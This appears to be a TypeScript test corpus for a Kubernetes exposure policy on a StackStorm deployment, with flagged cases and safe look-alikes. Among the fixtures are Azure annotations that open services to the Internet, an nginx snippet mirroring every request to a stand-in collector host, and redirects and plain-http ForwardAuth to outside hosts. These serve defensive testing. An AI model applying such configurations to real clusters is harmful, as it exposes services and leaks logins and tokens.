/**
 * The nineteenth red team's exposure-at-the-edge holes, in kept cases with their look-alikes.
 *
 * Azure (ST2-EXP-007): cloud-provider-azure writes a LoadBalancer's network security group from
 * the Kubernetes source ranges and its own annotations as a union
 * (pkg/provider/loadbalancer/accesscontrol.go): azure-allowed-service-tags adds one allow rule per
 * tag ("Internet" is the internet; every tag but VirtualNetwork and AzureLoadBalancer is public
 * addresses the gate cannot size), azure-allowed-ip-ranges adds CIDRs to the
 * load-balancer-source-ranges annotation's. Azure ranges beside spec.loadBalancerSourceRanges
 * make the controller refuse the Service (no rule written): not open, so allowed here. Azure's
 * annotations alone restrict a Service only Azure serves.
 *
 * The edge sending st2's requests out (ST2-EXP-013, policies/exposure_sendouts.rego): an
 * ingress-nginx permanent-redirect or temporal-redirect of st2web to an outside host (users type
 * their login there; clients following redirects keep X-Auth-Token), a snippet whose proxy_pass
 * names an outside host (a `mirror` of every request), and a Traefik ForwardAuth over plain http to
 * an outside address, judged as an auth-url is: over https to an outside identity provider it is
 * trusted by design (docs/trust-model.md), so the attacker's https case stays allowed.
 */
import type { Patch, RedTeamCase, Wrapped } from './corpus.js';
import { bodyCase } from './case-body.js';
import { add, patch, replace, type Json } from './targets.js';

const TAGS = 'service.beta.kubernetes.io/azure-allowed-service-tags';
const RANGES = 'service.beta.kubernetes.io/azure-allowed-ip-ranges';
const LB_RANGES = 'service.beta.kubernetes.io/load-balancer-source-ranges';
const key = (k: string): string => `/metadata/annotations/${k.replace(/\//g, '~1')}`;

/** st2's Service as a LoadBalancer with these spec ranges (none: no field) and annotations. */
function lb(service: string, ranges: readonly string[] | undefined, annotations: Record<string, string>): Patch {
  const ops: Json[] = [replace('/spec/type', 'LoadBalancer')];
  if (ranges !== undefined) ops.push(add('/spec/loadBalancerSourceRanges', ranges));
  for (const [k, v] of Object.entries(annotations)) ops.push(add(key(k), v));
  return patch({ kind: 'Service', name: service }, ...ops);
}

export function fresh19EdgeCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const EXP7 = 'ST2-EXP-007';
  const byPatch = (id: string, rule: string | undefined, patches: Patch[], wraps: Wrapped = 'prod'): void => {
    cases.push(bodyCase(`f19e-${id}`, 'exposure', rule, { wraps, patches }));
  };
  const TEN = ['10.0.0.0/8'];

  // --- Azure: a tag or wider Azure ranges beside narrow ranges (ST2-EXP-007) ------------------------
  byPatch('azure-tag-internet', EXP7, [lb('st2web', TEN, { [TAGS]: 'Internet' })]);
  byPatch('azure-tag-internet-st2api-staging', EXP7, [lb('st2api', TEN, { [TAGS]: 'VirtualNetwork,Internet' })], 'staging');
  byPatch('azure-tag-frontdoor', EXP7, [lb('st2web', TEN, { [TAGS]: 'AzureFrontDoor.Backend' })]);
  byPatch('azure-tag-cidr', EXP7, [lb('st2auth', TEN, { [TAGS]: '0.0.0.0/1, 128.0.0.0/1' })]);
  byPatch('azure-ranges-widen-annotation', EXP7, [lb('st2auth', undefined, { [LB_RANGES]: '10.0.0.0/8', [RANGES]: '0.0.0.0/0' })]);
  byPatch('azure-tag-beside-annotation', EXP7, [lb('st2stream', undefined, { [LB_RANGES]: '10.0.0.0/8', [TAGS]: 'Internet' })]);
  byPatch('azure-ranges-alone-open', EXP7, [lb('st2web', undefined, { [RANGES]: '0.0.0.0/0,::/0' })]);
  byPatch('azure-tag-alone-internet', EXP7, [lb('st2web', undefined, { [TAGS]: 'Internet' })]);
  // --- Look-alikes ----------------------------------------------------------------------------------
  byPatch('safe-azure-tag-vnet', undefined, [lb('st2web', TEN, { [TAGS]: 'VirtualNetwork' })]);
  byPatch('safe-azure-ranges-alone', undefined, [lb('st2web', undefined, { [RANGES]: '10.0.0.0/8, 81.2.69.0/24' })]);
  byPatch('safe-azure-tags-alone-private', undefined, [lb('st2api', undefined, { [TAGS]: 'VirtualNetwork,AzureLoadBalancer' })]);
  // Refused by the controller (spec ranges and Azure ranges together): no rule is written.
  byPatch('safe-azure-ranges-beside-spec', undefined, [lb('st2auth', TEN, { [RANGES]: '0.0.0.0/0' })]);

  // --- Redirects, snippets and ForwardAuth sending st2's requests out (ST2-EXP-013) ------------------
  const EXP13 = 'ST2-EXP-013';
  const WEB: Json = { group: 'networking.k8s.io', kind: 'Ingress', name: 'st2web' };
  const annotate = (values: Record<string, string>): Patch => patch(WEB, ...Object.entries(values).map(([k, v]) => add(key(k), v)));
  const NGINX = (k: string): string => `nginx.ingress.kubernetes.io/${k}`;
  const byBody = (id: string, rule: string | undefined, patches: Patch[], resources: Json[], wraps: Wrapped = 'prod'): void => {
    cases.push(bodyCase(`f19e-${id}`, 'exposure', rule, { wraps, patches, resources }));
  };
  const forwardAuth = (name: string, address: string): Json => ({
    apiVersion: 'traefik.io/v1alpha1',
    kind: 'Middleware',
    metadata: { name },
    spec: { forwardAuth: { address, trustForwardHeader: true } },
  });
  const MIDDLEWARES = 'traefik.ingress.kubernetes.io/router.middlewares';

  byPatch('redirect-permanent-outside', EXP13, [annotate({ [NGINX('permanent-redirect')]: 'https://st2-login.example.net/' })]);
  byPatch('redirect-308-outside-staging', EXP13, [annotate({ [NGINX('permanent-redirect')]: 'https://sso-st2.example.org/auth', [NGINX('permanent-redirect-code')]: '308' })], 'staging');
  byPatch('redirect-temporal-outside-ip', EXP13, [annotate({ [NGINX('temporal-redirect')]: 'http://198.51.100.23/' })]);
  byPatch('snippet-mirror-outside', EXP13, [annotate({ [NGINX('configuration-snippet')]: 'mirror /copy;\n', [NGINX('server-snippet')]: 'location = /copy { internal; proxy_pass https://collect.example.net$request_uri; }' })]);
  byPatch('snippet-api-outside', EXP13, [annotate({ [NGINX('server-snippet')]: 'location /api/ {\n  proxy_pass http://203.0.113.50:9101;\n}\n' })]);
  byBody('forwardauth-http-outside', EXP13, [annotate({ [MIDDLEWARES]: 'st2-prod-check@kubernetescrd' })], [forwardAuth('check', 'http://auth.example.net/verify')]);
  byBody('forwardauth-http-outside-list', EXP13, [annotate({ [MIDDLEWARES]: 'st2-prod-headers@kubernetescrd, st2-prod-check@kubernetescrd' })], [forwardAuth('check', 'http://198.51.100.77:8080/auth')]);
  // --- Look-alikes ----------------------------------------------------------------------------------
  byPatch('safe-redirect-same-host', undefined, [annotate({ [NGINX('permanent-redirect')]: 'https://st2.example.com/' })]);
  byPatch('safe-redirect-host-variable', undefined, [annotate({ [NGINX('temporal-redirect')]: 'https://$host/maintenance.html' })]);
  byPatch('safe-redirect-in-cluster', undefined, [annotate({ [NGINX('permanent-redirect')]: 'http://st2web.st2-prod.svc.cluster.local/' })]);
  byPatch('safe-snippet-proxy-in-cluster', undefined, [annotate({ [NGINX('server-snippet')]: 'location /api/v1/health { proxy_pass http://st2api.st2-prod.svc:9101; }' })]);
  byBody('safe-forwardauth-in-cluster', undefined, [annotate({ [MIDDLEWARES]: 'st2-prod-check@kubernetescrd' })], [forwardAuth('check', 'http://oauth2-proxy.st2-prod.svc.cluster.local:4180/oauth2/auth')]);
  // By design (docs/trust-model.md): an https identity provider outside, as an https auth-url.
  byBody('safe-forwardauth-https-outside', undefined, [annotate({ [MIDDLEWARES]: 'st2-prod-check@kubernetescrd' })], [forwardAuth('check', 'https://auth.example.net/verify')]);
  byBody('safe-forwardauth-http-unreferenced', undefined, [], [forwardAuth('check', 'http://auth.example.net/verify')]);
  return cases;
}
